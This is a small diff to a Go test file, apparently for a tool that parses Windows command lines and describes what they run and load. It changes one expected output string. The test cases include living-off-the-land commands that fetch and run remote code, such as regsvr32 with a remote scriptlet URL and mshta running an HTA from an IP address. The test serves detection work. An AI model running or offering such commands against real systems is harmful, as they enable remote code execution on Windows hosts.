@@ -66,7 +66,7 @@ func TestRead(t *testing.T) {
 		// Hosts
 		{`rundll32.exe C:\x.dll,Go C:\y`, `runs rundll32.exe; rundll32 loads C:\x.dll; rundll32 mentions C:\y`, ""},
 		{`rundll32 "C:\a b\x.dll",#1`, `runs rundll32; rundll32 loads C:\a b\x.dll; rundll32 mentions #1`, ""},
-		{`regsvr32 /s /i:http://h/y scrobj.dll`, `runs regsvr32; regsvr32 loads http://h/y; regsvr32 loads scrobj.dll`, ""},
+		{`regsvr32 /s /i:http://h/y scrobj.dll`, `runs regsvr32; regsvr32 takes http://h/y; regsvr32 loads scrobj.dll`, ""},
 		{`wscript.exe //B "C:\a b.vbs" C:\y`, `runs wscript.exe; wscript runs C:\a b.vbs; wscript mentions C:\y`, ""},
 		{`mshta http://198.51.100.1/a.hta`, `runs mshta; mshta runs http://198.51.100.1/a.hta`, ""},
 		{`mshta vbscript:Close(Execute("x"))`, `runs mshta`, `vbscript:Close(Execute("x"))`},
